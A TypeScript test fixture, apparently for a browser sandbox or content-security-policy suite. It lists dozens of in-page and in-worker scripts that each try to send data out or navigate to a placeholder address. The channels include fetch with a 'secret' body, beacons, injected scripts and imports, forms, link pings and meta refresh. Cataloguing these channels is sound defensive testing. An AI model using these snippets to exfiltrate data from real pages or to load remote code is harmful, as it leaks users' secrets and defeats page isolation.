// Every way out of a page that we know, each as a script that tries it. `{{url}}` becomes an address of its own.

export interface Leak {
  name: string;
  /** Runs in the page; may return a promise. A refusal may throw. */
  script: string;
  /** What closes it: the policy, the page's own fence, or both. */
  closedBy: "policy" | "fence" | "both";
}

const append = (make: string, parent = "body"): string => `(() => {
  const add = (name, fields) => {
    const element = Object.assign(document.createElement(name), fields);
    document.${parent}.append(element);
    return element;
  };
  ${make}
})()`;

const html = (text: string): string => `document.body.insertAdjacentHTML("beforeend", '${text}')`;

/** From the page's own window. */
export const PAGE_LEAKS: readonly Leak[] = [
  { name: "fetch", closedBy: "policy", script: `fetch("{{url}}", { mode: "no-cors", method: "POST", body: "secret" })` },
  { name: "fetch that outlives the page", closedBy: "policy", script: `fetch("{{url}}", { mode: "no-cors", keepalive: true })` },
  {
    name: "XMLHttpRequest",
    closedBy: "policy",
    script: `(() => { const request = new XMLHttpRequest(); request.open("GET", "{{url}}"); request.send(); })()`,
  },
  { name: "beacon", closedBy: "policy", script: `navigator.sendBeacon("{{url}}", "secret")` },
  { name: "image", closedBy: "policy", script: `void (new Image().src = "{{url}}")` },
  { name: "image in the document", closedBy: "policy", script: append(`add("img", { src: "{{url}}" })`) },
  { name: "WebSocket", closedBy: "policy", script: `void new WebSocket("{{url}}".replace("http", "ws"))` },
  { name: "EventSource", closedBy: "policy", script: `void new EventSource("{{url}}")` },
  { name: "script", closedBy: "policy", script: append(`add("script", { src: "{{url}}" })`, "head") },
  { name: "module", closedBy: "policy", script: append(`add("script", { type: "module", src: "{{url}}" })`, "head") },
  { name: "dynamic import", closedBy: "policy", script: `import("{{url}}")` },
  { name: "stylesheet", closedBy: "policy", script: append(`add("link", { rel: "stylesheet", href: "{{url}}" })`, "head") },
  {
    name: "background of an element",
    closedBy: "policy",
    script: `void (document.body.style.backgroundImage = "url({{url}})")`,
  },
  { name: "font", closedBy: "policy", script: `new FontFace("leak", "url({{url}})").load()` },
  { name: "prefetch", closedBy: "policy", script: append(`add("link", { rel: "prefetch", href: "{{url}}" })`, "head") },
  {
    name: "preload",
    closedBy: "policy",
    script: append(`add("link", { rel: "preload", as: "image", href: "{{url}}" })`, "head"),
  },
  {
    name: "module preload",
    closedBy: "policy",
    script: append(`add("link", { rel: "modulepreload", href: "{{url}}" })`, "head"),
  },
  {
    name: "imported style",
    closedBy: "policy",
    // The page adds its style by script: where that was taken away, there is none yet.
    script: `void (document.styleSheets[0] ?? document.head.appendChild(document.createElement("style")).sheet).insertRule("@import url({{url}})", 0)`,
  },
  { name: "image of an SVG", closedBy: "policy", script: html(`<svg><image href="{{url}}" /></svg>`) },
  { name: "image button", closedBy: "policy", script: append(`add("input", { type: "image", src: "{{url}}" })`) },
  { name: "poster", closedBy: "policy", script: append(`add("video", { poster: "{{url}}" })`) },
  { name: "embedded object", closedBy: "policy", script: append(`add("embed", { src: "{{url}}" })`) },
  {
    name: "ping",
    closedBy: "policy",
    script: append(`add("a", { href: "#here", ping: "{{url}}" }).click();`),
  },
  {
    name: "worker that fetches",
    closedBy: "policy",
    script: `void new Worker(URL.createObjectURL(new Blob(["fetch('{{url}}', { mode: 'no-cors' })"])))`,
  },
  { name: "video", closedBy: "policy", script: append(`add("video", { src: "{{url}}" })`) },
  { name: "frame", closedBy: "policy", script: append(`add("iframe", { src: "{{url}}" })`) },
  { name: "object", closedBy: "policy", script: append(`add("object", { data: "{{url}}" })`) },
  {
    name: "form",
    closedBy: "both",
    script: append(`add("form", { method: "get", action: "{{url}}" }).submit();`),
  },
  {
    name: "form in a new window",
    closedBy: "policy",
    script: append(`add("form", { method: "get", action: "{{url}}", target: "_blank" }).submit();`),
  },
  { name: "location", closedBy: "fence", script: `void (location.href = "{{url}}")` },
  { name: "location.replace", closedBy: "fence", script: `location.replace("{{url}}")` },
  { name: "window.open", closedBy: "fence", script: `void window.open("{{url}}")` },
  { name: "link", closedBy: "fence", script: append(`add("a", { href: "{{url}}" }).click();`) },
  {
    name: "link to a new window",
    closedBy: "fence",
    script: append(`add("a", { href: "{{url}}", target: "_blank" }).click();`),
  },
  {
    name: "link outside the document",
    closedBy: "fence",
    script: `Object.assign(document.createElement("a"), { href: "{{url}}", target: "_blank" }).click()`,
  },
  {
    name: "click event on a link outside the document",
    closedBy: "fence",
    script: `void Object.assign(document.createElement("a"), { href: "{{url}}", target: "_blank" })
      .dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }))`,
  },
  {
    name: "area of an image map",
    closedBy: "fence",
    script: append(`add("area", { href: "{{url}}", target: "_blank" }).click();`),
  },
  {
    name: "link in an SVG",
    closedBy: "fence",
    script: `(() => {
      ${html(`<svg><a href="{{url}}" target="_blank"><text>x</text></a></svg>`)};
      const text = document.querySelector("svg a text");
      text.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
    })()`,
  },
  { name: "navigation.navigate", closedBy: "fence", script: `void navigation.navigate("{{url}}")` },
  {
    name: "download link",
    closedBy: "fence",
    script: append(`add("a", { href: "{{url}}", download: "x" }).click();`),
  },
  {
    name: "refresh",
    closedBy: "fence",
    script: append(`add("meta", { httpEquiv: "refresh", content: "0; url={{url}}" })`, "head"),
  },
  {
    name: "window of an empty frame",
    closedBy: "fence",
    script: append(`add("iframe", {}).contentWindow.open("{{url}}");`),
  },
];

/** From inside a worker. */
export const WORKER_LEAKS: readonly Leak[] = [
  { name: "fetch", closedBy: "policy", script: `fetch("{{url}}", { mode: "no-cors", method: "POST", body: "secret" })` },
  {
    name: "XMLHttpRequest",
    closedBy: "policy",
    script: `(() => { const request = new XMLHttpRequest(); request.open("GET", "{{url}}"); request.send(); })()`,
  },
  { name: "WebSocket", closedBy: "policy", script: `void new WebSocket("{{url}}".replace("http", "ws"))` },
  { name: "EventSource", closedBy: "policy", script: `void new EventSource("{{url}}")` },
  { name: "importScripts", closedBy: "policy", script: `importScripts("{{url}}")` },
  { name: "font", closedBy: "policy", script: `new FontFace("leak", "url({{url}})").load()` },
];
